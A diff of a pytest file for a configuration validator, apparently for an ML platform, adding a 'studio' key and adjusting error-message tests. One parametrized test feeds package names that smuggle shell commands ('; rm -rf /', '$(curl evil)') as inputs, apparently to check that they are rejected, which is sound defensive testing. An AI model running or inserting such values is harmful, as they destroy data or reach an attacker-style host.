@@ -95,7 +95,7 @@ def test_unknown_key_is_a_typo_not_ignored(tmp_path):
 def test_unknown_top_level_key(tmp_path):
     message = config_error(tmp_path, {**VALID, "regoin": "us-east-1"})
     assert ("regoin: unknown key; did you mean region? "
-            "(allowed: account, compliance, data, gate_function, models, network, notebooks, region, removal_policy, tags, "
+            "(allowed: account, compliance, data, gate_function, models, network, notebooks, region, removal_policy, studio, tags, "
             "tracking)") in message
 
 
@@ -225,8 +225,9 @@ def test_more_nat_gateways_than_zones(tmp_path):
 
 def test_packages_need_egress(tmp_path):
     data = with_network(nat_gateways=0)
-    message = config_error(tmp_path, data)
-    assert "notebooks[0].packages: installing packages needs egress" in message
+    messages = config_errors(tmp_path, data)
+    assert any("notebooks[0].packages: installing packages needs egress" in m for m in messages)
+    assert all("packages: installing packages needs egress" in m for m in messages)
 
 
 @pytest.mark.parametrize("package", ["xgboost", "xgboost>=3", "xgboost==3.4.1; rm -rf /", "$(curl evil)==1"])
@@ -501,6 +502,7 @@ def test_a_model_serves_only_versions_of_its_own_group(tmp_path):
 def test_an_environment_without_models_is_valid(tmp_path):
     data = shipped("dev")
     data["models"] = {}
+    data.pop("studio")  # its teams work on models: none without a catalog
     assert load_environment(write_config(tmp_path, data)).models == {}
 
 
